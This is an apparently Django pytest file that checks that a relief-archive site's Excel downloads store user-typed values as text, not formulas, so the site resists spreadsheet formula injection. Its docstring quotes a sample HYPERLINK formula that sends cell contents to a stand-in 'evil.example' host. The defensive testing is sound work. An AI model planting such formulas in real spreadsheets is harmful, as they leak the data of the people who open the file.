"""Every spreadsheet the site hands out keeps what people typed as text: no formula, no link, no raw XML.

A header field saved as `=HYPERLINK("http://evil.example/?"&A1,"点此核对")` used to become a live formula in
the reviewer's download of the table. Each hostile text (`..formkit.test_template.PAYLOADS`) goes into
every user-typed field that reaches a download — the table's header (填报人, 电话), the unit names and
contacts (填报单位, the roll-up's header, the grid's columns), the archive's fields, the rows an import
rejects — and every download is read back: no cell a formula (raw XML and openpyxl), the text exactly as
typed.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import Field
from django.urls import reverse

from songnuan.archive.models import Household, ImportJob, Member
from songnuan.archive.services import HouseholdInput, MemberInput, household_apply, household_file
from songnuan.campaigns.models import Campaign
from songnuan.formkit.excel_writer import new_workbook, write_text
from songnuan.orgs.models import Unit

from ..formkit.test_template import PAYLOADS, read_cells
from ..world import World
from .test_rollup import COUNTY, ENTERPRISE, put_table

WARMTH = "warmth-2018"
HEAD = "11010519491231002X"
IDS = [f"payload{n}" for n in range(len(PAYLOADS))]


@pytest.fixture(autouse=True)
def imports_in_the_request(settings: Any, tmp_path: Path) -> None:
    settings.SONGNUAN_IMPORT_IN_BACKGROUND = False
    settings.SONGNUAN_IMPORT_DIR = tmp_path / "imports"


def only_sheet(content: bytes) -> dict[str, str]:
    (cells,) = read_cells(content).values()
    return cells


def hostile_tables(world: World, payload: str) -> None:
    """The county named `payload`, with `payload` as its contact, and its accepted table with `payload` as
    填报人 and 电话; the enterprise below it named `payload` + 工会, its table accepted too."""
    Unit.objects.filter(pk=world.county.pk).update(name=payload, contact_name=payload, contact_phone=payload)
    Unit.objects.filter(pk=world.enterprise.pk).update(name=payload + "工会")
    Campaign.objects.filter(pk=world.campaign.pk).update(title=payload)
    put_table(world, world.county, COUNTY, reporter=payload, phone=payload, report_date=dt.date(2018, 2, 3))
    put_table(world, world.enterprise, ENTERPRISE)


def download(world: World, name: str, unit: Unit) -> bytes:
    response = world.client("city_reviewer").get(
        reverse(f"review:{name}", args=[world.campaign.pk, unit.pk, WARMTH])
    )
    assert response.status_code == 200
    content: bytes = response.content
    return content


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_a_tables_export_keeps_its_header_as_text(world: World, payload: str) -> None:
    hostile_tables(world, payload)
    cells = only_sheet(download(world, "export", world.county))
    # 填报单位 C3, 填报人 F3, 电话 C4 (the date is a date).
    assert (cells["C3"], cells["F3"], cells["C4"]) == (payload, payload, payload)
    assert cells["F4"] == str((dt.date(2018, 2, 3) - dt.date(1899, 12, 30)).days)  # an Excel date serial


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_a_rollups_export_keeps_its_header_as_text(world: World, payload: str) -> None:
    hostile_tables(world, payload)
    cells = only_sheet(download(world, "rollup-xlsx", world.county))
    assert (cells["C3"], cells["F3"], cells["C4"]) == (payload + "（汇总）", payload, payload)


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_the_grids_keep_unit_names_as_text(world: World, payload: str) -> None:
    hostile_tables(world, payload)
    city = only_sheet(download(world, "grid-xlsx", world.city))
    assert city["D4"] == payload  # the county's column
    assert payload in city["A2"]  # the campaign's title, in the subtitle
    county = only_sheet(download(world, "grid-xlsx", world.county))
    assert (county["D4"], county["E4"]) == (payload + "工会", payload + "（本级）")
    assert county["A2"].startswith(payload + " 汇总对比")


def test_the_blank_template_holds_no_formula(world: World) -> None:
    response = world.client("county_reporter").get(reverse("reporting:form-template", args=[WARMTH]))
    assert response.status_code == 200
    assert only_sheet(response.content)["A1"] == "附件1："


# --- the archive -----------------------------------------------------------------------------------------

ARCHIVE_FIELDS = {
    "建档单位": None,  # the unit's name
    "户主姓名": "head_name",
    "困难类型": "difficulty_type",
    "主要致困原因": "main_cause",
    "工作单位": "employer",
    "开户银行": "bank",
}


def fitting(payload: str, field: str) -> str:
    """As much of `payload` as the field holds (困难类型 takes 30 characters; PostgreSQL refuses more)."""
    model_field = Household._meta.get_field(field)
    assert isinstance(model_field, Field)
    longest = model_field.max_length
    assert longest is not None
    return payload[:longest]


#: The members sheet's user-typed columns, by heading → Member field.
MEMBER_FIELDS = {
    "成员姓名": "name",
    "与户主关系": "relation",
    "健康状况": "health",
    "就读学校或工作单位": "school_or_employer",
}


@pytest.mark.parametrize("full", [False, True], ids=["masked", "full-numbers"])
@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_the_archive_export_keeps_every_field_as_text(world: World, payload: str, full: bool) -> None:
    reporter = world.users["county_reporter"]
    household = household_apply(
        user=reporter,
        unit=world.county,
        data=HouseholdInput(
            head_name="王建国",
            head_id_number=HEAD,
            category=Household.Category.WORKER,
            members=[MemberInput(name="李秀英", relation="配偶", id_number="")],
        ),
    )
    household_file(user=world.users["city_reviewer"], household=household)
    Unit.objects.filter(pk=world.county.pk).update(name=payload)
    typed = {field: fitting(payload, field) for field in ARCHIVE_FIELDS.values() if field is not None}
    Household.objects.filter(pk=household.pk).update(**typed)
    reviewer = world.users["city_reviewer"]
    reviewer.user_permissions.add(Permission.objects.get(codename="view_personal_data"))
    response = world.client("city_reviewer").get("/archive/export.xlsx" + ("?full=1" if full else ""))
    assert response.status_code == 200
    main, members = read_cells(response.content).values()
    header = {text: ref[:-1] for ref, text in main.items() if re.fullmatch(r"[A-Z]+2", ref)}
    for title, field in ARCHIVE_FIELDS.items():
        assert main[f"{header[title]}3"] == (typed[field] if field else payload), title
    # The members sheet (家庭成员): the member's own fields, and the head and unit repeated, as text too.
    member_typed = {field: fitting_member(payload, field) for field in MEMBER_FIELDS.values()}
    Member.objects.filter(household=household).update(**member_typed)
    response = world.client("city_reviewer").get("/archive/export.xlsx" + ("?full=1" if full else ""))
    main, members = read_cells(response.content).values()
    header = {text: ref[:-1] for ref, text in members.items() if re.fullmatch(r"[A-Z]+2", ref)}
    for title, field in MEMBER_FIELDS.items():
        assert members[f"{header[title]}3"] == member_typed[field], title
    assert members[f"{header['建档单位']}3"] == payload
    assert members[f"{header['户主姓名']}3"] == typed["head_name"]


def fitting_member(payload: str, field: str) -> str:
    model_field = Member._meta.get_field(field)
    assert isinstance(model_field, Field) and model_field.max_length is not None
    return payload[: model_field.max_length]


def import_file(payload: str) -> bytes:
    """A roster whose one row is refused (its 类别 is not one), every other cell hostile."""
    buffer = io.BytesIO()
    workbook = new_workbook(buffer)
    sheet = workbook.add_worksheet("花名册")
    header = ["姓名", "身份证号码", "类别", "手机", "家庭人口", "建档单位", "备注"]
    row = [payload, HEAD, payload, payload, payload, payload, payload]
    for column, (title, text) in enumerate(zip(header, row, strict=True)):
        write_text(sheet, 0, column, title)
        write_text(sheet, 1, column, text)  # as text, `<r>…</r>` included
    workbook.close()
    return buffer.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_the_rows_an_import_refuses_come_back_as_text(world: World, payload: str) -> None:
    client = world.client("county_reviewer")
    client.post(
        "/archive/import/",
        {"file": SimpleUploadedFile("花名册.xlsx", import_file(payload)), "unit": world.county.pk},
    )
    job = ImportJob.objects.get()
    form = client.get(f"/archive/import/{job.pk}/").context["form"]
    mapping = {name: str(form[name].value() or "") for name in form.fields if name != "use_default_unit"}
    client.post(f"/archive/import/{job.pk}/", mapping)
    job.refresh_from_db()
    assert (job.state, job.created, job.rejected) == (ImportJob.State.DONE, 0, 1)
    response = client.get(f"/archive/import/{job.pk}/rejected.xlsx")
    assert response.status_code == 200
    cells = only_sheet(response.content)
    # A 原文件行号, B 退回原因, then the row as it was read.
    assert [cells.get(f"{column}3") for column in "CEFGHI"] == [payload] * 6
    assert cells["D3"] == HEAD
